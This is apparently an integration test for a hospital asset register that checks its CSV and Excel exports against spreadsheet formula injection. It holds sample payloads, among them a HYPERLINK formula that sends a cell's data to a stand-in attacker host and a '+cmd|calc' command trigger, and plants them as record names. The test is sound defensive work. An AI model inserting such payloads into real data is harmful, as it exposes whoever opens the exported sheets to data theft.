import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import type { AdminAsset, AdminLocation } from '../../functions/src/contract/admin';
import type { QrLookup, Ticket } from '../../functions/src/contract/tickets';
import { SHEETS } from '../../functions/src/adapters/excel/reportWorkbook';
import { api, type ApiClient } from '../support/api';
import { stackEnv } from '../support/env';
import { createTestHospital, type TestHospital } from '../support/hospital';

// The attack: a register name that Excel or WPS would run as a formula when the sheet is opened.
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点我")';

let hospital: TestHospital;
let admin: ApiClient;
let manager: ApiClient;
let nurse: ApiClient;

beforeAll(async () => {
  hospital = await createTestHospital();
  const as = (id: string) => api.as(hospital.hospitalId, id);
  [admin, manager, nurse] = await Promise.all([as(hospital.users.admin), as(hospital.users.manager), as(hospital.users.nurse)]);
  const room = await admin.post<AdminLocation>('/v1/admin/locations', { id: 'T1-0290', type: 'room', name: FORMULA, parentId: hospital.floors.upper, roomUse: 'office' });
  expect(room.status).toBe(201);
  const asset = await admin.post<AdminAsset>('/v1/admin/assets', {
    id: 'T1-0290-PC1', name: FORMULA, type: 'computer', model: '+cmd|calc', serial: '-1+1', vendor: '@SUM(A1)', installDate: null, warrantyEnd: null,
    categoryCode: 'it', maintenanceCycleDays: null, lifeSupport: false, locationId: 'T1-0290',
  });
  expect(asset.status).toBe(201);
  const ticket = await nurse.post<Ticket>(
    '/v1/tickets',
    { qrCode: asset.body.qrCode, categoryCode: 'it', description: '电脑黑屏', urgency: 'normal', notADuplicate: true },
    { headers: { 'idempotency-key': `csv-formula-${hospital.hospitalId}` } },
  );
  expect(ticket.status).toBe(201);
});

async function download(client: ApiClient, path: string): Promise<{ status: number; bytes: Buffer }> {
  const res = await fetch(new URL(path, stackEnv('API_URL')), { headers: { authorization: `Bearer ${client.token}` } });
  return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()) };
}

describe('formula injection through the register exports', () => {
  // Written by hand: every CSV export, the row and column holding attacker text, and what its cell must say.
  const expected: [path: string, id: string, column: string, cell: string][] = [
    ['/v1/admin/locations.csv', 'T1-0290', 'name', `'${FORMULA}`],
    ['/v1/admin/assets.csv', 'T1-0290-PC1', 'name', `'${FORMULA}`],
    ['/v1/admin/assets.csv', 'T1-0290-PC1', 'model', "'+cmd|calc"],
    ['/v1/admin/assets.csv', 'T1-0290-PC1', 'serial', "'-1+1"],
    ['/v1/admin/assets.csv', 'T1-0290-PC1', 'vendor', "'@SUM(A1)"],
  ];
  it.each(expected)('%s shows %s\'s %s as text', async (path, id, column, cell) => {
    const res = await download(admin, path);
    expect(res.status).toBe(200);
    const rows = parse(res.bytes.toString('utf8'), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.find((r) => r.id === id)?.[column]).toBe(cell);
  });

  it('imports an exported sheet back to the names as they were written', async () => {
    const exported = await download(admin, '/v1/admin/locations.csv');
    const imported = await admin.post('/v1/admin/locations/import', exported.bytes.toString('utf8'), { headers: { 'content-type': 'text/csv' } });
    expect(imported.status).toBe(200);
    // The room's label answers with its name as stored (the register has no single-room read).
    const scan = await nurse.get<QrLookup>('/v1/qr/R-T1-0290');
    expect(scan.body.location.name).toBe(FORMULA);
  });

  it('writes the name into the monthly workbook as a text cell, never a formula', async () => {
    const month = new Date().toISOString().slice(0, 7);
    let nameCell: ExcelJS.Cell | undefined;
    // The report follows the table stream: ask until the device shows up (bounded).
    for (const deadline = Date.now() + 30_000; !nameCell && Date.now() < deadline; await new Promise((r) => setTimeout(r, 300))) {
      const res = await download(manager, `/v1/reports/monthly?month=${month}`);
      expect(res.status).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(res.bytes as unknown as ArrayBuffer);
      book.getWorksheet(SHEETS.assets)!.eachRow((row) => {
        if (row.getCell(1).value === 'T1-0290-PC1') nameCell = row.getCell(2);
      });
    }
    expect(nameCell?.type).toBe(ExcelJS.ValueType.String);
    expect(nameCell?.value).toBe(FORMULA);
    expect(nameCell?.formula).toBeUndefined();
  });
});
